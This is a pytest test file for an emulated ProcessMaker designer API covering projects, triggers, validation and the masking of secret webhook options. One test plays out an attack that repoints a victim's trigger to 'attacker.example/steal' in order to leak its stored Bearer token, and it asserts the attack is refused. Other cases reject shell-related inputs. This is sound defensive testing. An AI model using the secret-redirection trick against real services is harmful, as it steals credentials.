"""ProcessMaker's designer registry: projects with tasks and routes, triggers as module actions."""

from __future__ import annotations

import re

import pytest

from tests.dialects.processmaker.support import (
    API,
    TASK_A,
    TASK_B,
    call,
    error_message,
    make_designer,
    make_project,
    make_trigger,
)

UID = re.compile(r"^[0-9a-f]{32}$")


@pytest.fixture
def designer(client):
    return client, make_designer()


def test_a_project_keeps_given_task_uids_and_makes_the_others(designer):
    client, headers = designer
    body = {
        "prj_name": "Purchase",
        "tasks": [{"tas_uid": TASK_A, "tas_title": "Request"}, {"tas_title": "Review"}],
        "routes": [{"tas_uid": TASK_A, "rou_next_task": "-1"}],
    }
    created = call(client, "POST", f"{API}/project", headers, body)

    assert created.status_code == 201
    project = created.json_body
    assert UID.match(project["prj_uid"])
    assert project["tasks"][0] == {"tas_uid": TASK_A, "tas_title": "Request"}
    assert UID.match(project["tasks"][1]["tas_uid"])
    assert project["routes"] == [{"tas_uid": TASK_A, "rou_next_task": "-1"}]
    assert call(client, "GET", f"{API}/project/{project['prj_uid']}", headers).json_body == project
    assert call(client, "GET", f"{API}/project", headers).json_body == [project]


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({}, "`prj_name` is required."),
        ({"prj_name": ""}, "Invalid value specified for `prj_name`. Minimum 1 character required."),
        ({"prj_name": "P", "tasks": "x"}, "Invalid value specified for `tasks`"),
        ({"prj_name": "P", "tasks": [{}]}, "`tas_title` is required."),
        (
            {"prj_name": "P", "tasks": [{"tas_uid": "ABC", "tas_title": "T"}]},
            "Invalid value specified for `tas_uid`. Expecting 32 lowercase hexadecimal characters",
        ),
        (
            {"prj_name": "P", "tasks": [{"tas_uid": TASK_A, "tas_title": "T"}] * 2},
            f"Invalid value specified for `tas_uid`. Duplicate '{TASK_A}'",
        ),
        (
            {
                "prj_name": "P",
                "tasks": [{"tas_uid": TASK_A, "tas_title": "T"}],
                "routes": [{"tas_uid": TASK_A, "rou_next_task": TASK_B}],
            },
            f"The task with tas_uid: '{TASK_B}' does not exist.",
        ),
    ],
)
def test_project_validation(designer, body, message):
    client, headers = designer
    response = call(client, "POST", f"{API}/project", headers, body)
    assert response.status_code == 400
    assert error_message(response) == f"Bad Request: {message}"


def test_a_missing_project(designer):
    client, headers = designer
    response = call(client, "GET", f"{API}/project/{'9' * 32}", headers)
    assert response.status_code == 400
    assert (
        error_message(response)
        == f"Bad Request: The project with prj_uid: '{'9' * 32}' does not exist."
    )
    malformed = call(client, "POST", f"{API}/project", headers)
    assert malformed.status_code == 400


def test_deleting_a_project_removes_its_triggers(designer):
    client, headers = designer
    prj = make_project(client, headers)["prj_uid"]
    tri = make_trigger(client, headers, prj)
    assert call(client, "DELETE", f"{API}/project/{prj}", headers).status_code == 200
    assert call(client, "GET", f"{API}/project", headers).json_body == []
    from chalicelib.dialects.processmaker.designer import load_trigger

    assert load_trigger("workflow", prj, tri) is None


def test_trigger_crud(designer):
    client, headers = designer
    prj = make_project(client, headers)["prj_uid"]
    tri = make_trigger(client, headers, prj)
    path = f"{API}/project/{prj}/trigger/{tri}"

    fetched = call(client, "GET", path, headers).json_body
    assert fetched["tri_uid"] == tri and UID.match(tri)
    assert (fetched["tri_title"], fetched["tri_handlermodule"], fetched["tri_action"]) == (
        "Escalate",
        "WebHook",
        "post_webhook",
    )
    assert fetched["tri_options"]["URL"] == "http://example.com/hook"
    assert call(client, "GET", f"{API}/project/{prj}/triggers", headers).json_body == [fetched]

    changed = {
        **fetched,
        "tri_title": "Escalate now",
        "tri_options": {**fetched["tri_options"], "timeout": "5"},
    }
    response = call(client, "PUT", path, headers, changed)
    assert (response.status_code, response.body) == (200, b"")
    assert call(client, "GET", path, headers).json_body["tri_title"] == "Escalate now"

    assert call(client, "DELETE", path, headers).status_code == 200
    gone = call(client, "GET", path, headers)
    assert error_message(gone) == f"Bad Request: The trigger with tri_uid: '{tri}' does not exist."


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"tri_title": None}, "`tri_title` is required."),
        ({"tri_handlermodule": None}, "`tri_handlermodule` is required."),
        ({"tri_action": None}, "`tri_action` is required."),
        (
            {"tri_options": "URL=x"},
            "Invalid value specified for `tri_options`. Expecting an object",
        ),
        (
            {"tri_handlermodule": "Shell"},
            "Invalid value specified for `tri_handlermodule`: unknown module 'Shell'",
        ),
        (
            {"tri_action": "get"},
            "Invalid value specified for `tri_action`: 'get'. Allowed are: post_webhook",
        ),
        (
            {"tri_handlermodule": "RequestMangler", "tri_action": "set", "tri_options": {}},
            "Invalid value specified for `tri_handlermodule`: RequestMangler runs only in requests",
        ),
        (
            {
                "tri_options": {
                    "URL": "http://x",
                    "content_type": "text/xml",
                    "replace": "1",
                    "data": "{}",
                }
            },
            "Invalid value specified for `tri_options`: 'content_type' must be one of "
            "application/json, application/x-www-form-urlencoded",
        ),
        (
            {
                "tri_options": {
                    "URL": "http://x",
                    "content_type": "application/json",
                    "replace": "1",
                    "data": "{}",
                    "shell": "ls",
                }
            },
            "Invalid value specified for `tri_options`: unknown option 'shell'",
        ),
        (
            {"tri_options": {"content_type": "application/json", "replace": "1", "data": "{}"}},
            "Invalid value specified for `tri_options`: 'URL' is required",
        ),
    ],
)
def test_trigger_validation_reads_the_module_registry(designer, changes, message):
    client, headers = designer
    prj = make_project(client, headers)["prj_uid"]
    body = {
        "tri_title": "T",
        "tri_handlermodule": "WebHook",
        "tri_action": "post_webhook",
        "tri_options": {
            "URL": "http://x",
            "content_type": "application/json",
            "replace": "1",
            "data": "{}",
        },
    }
    body.update(changes)
    body = {key: value for key, value in body.items() if value is not None}
    response = call(client, "POST", f"{API}/project/{prj}/trigger", headers, body)
    assert response.status_code == 400
    assert error_message(response) == f"Bad Request: {message}"


def test_secret_options_are_masked_on_read_and_kept_on_update(designer):
    client, headers = designer
    prj = make_project(client, headers)["prj_uid"]
    tri = make_trigger(client, headers, prj, authorization="Bearer s3cret")
    path = f"{API}/project/{prj}/trigger/{tri}"

    shown = call(client, "GET", path, headers).json_body
    assert shown["tri_options"]["authorization"] == "********"
    assert call(client, "PUT", path, headers, {**shown, "tri_title": "renamed"}).status_code == 200
    from chalicelib.dialects.processmaker.designer import load_trigger

    stored = load_trigger("workflow", prj, tri)
    assert stored["tri_options"]["authorization"] == "Bearer s3cret"
    # nor do the operations' events carry it (they are served by /v2/events)
    from chalicelib.core.events import EventQuery, list_events

    recorded = [
        event
        for name in ("processmaker.trigger.create", "processmaker.trigger.update")
        for event in list_events(EventQuery(event_type=name))
    ]
    assert len(recorded) == 2
    assert all("s3cret" not in repr(event) for event in recorded)
    assert stored["tri_title"] == "renamed"


def test_a_new_url_with_the_mask_does_not_take_the_stored_secret(designer):
    """The attack: PUT the victim's trigger with the attacker's URL and the mask; the next
    case would send the victim's Authorization to the attacker."""
    from chalicelib.dialects.processmaker.designer import load_trigger

    client, headers = designer
    prj = make_project(client, headers)["prj_uid"]
    tri = make_trigger(client, headers, prj, authorization="Bearer s3cret")
    path = f"{API}/project/{prj}/trigger/{tri}"
    shown = call(client, "GET", path, headers).json_body
    moved = {**shown["tri_options"], "URL": "http://attacker.example/steal"}
    response = call(client, "PUT", path, headers, {**shown, "tri_options": moved})
    assert response.status_code == 400
    assert "authorization" in error_message(response)
    stored = load_trigger("workflow", prj, tri)
    assert stored["tri_options"]["URL"] == shown["tri_options"]["URL"]
    assert stored["tri_options"]["authorization"] == "Bearer s3cret"
    # Sending the secret again with the new URL is the owner's choice: accepted.
    again = {**moved, "authorization": "Bearer n3w"}
    assert call(client, "PUT", path, headers, {**shown, "tri_options": again}).status_code == 200
    assert load_trigger("workflow", prj, tri)["tri_options"]["authorization"] == "Bearer n3w"
    # A trigger's options are replaced whole: leaving the secret out drops it, never moves it.
    gone = {k: v for k, v in moved.items() if k != "authorization"} | {"URL": "http://b.example"}
    assert call(client, "PUT", path, headers, {**shown, "tri_options": gone}).status_code == 200
    assert "authorization" not in load_trigger("workflow", prj, tri)["tri_options"]


def test_secret_option_keys_follow_the_module_declaration(monkeypatch):
    from chalicelib.engine.modules.base import get_module, module_rules

    spec = get_module("WebHook").actions["post_webhook"]["authorization"]
    assert spec.secret
    assert module_rules().secret_options("WebHook", "post_webhook") == {"authorization"}
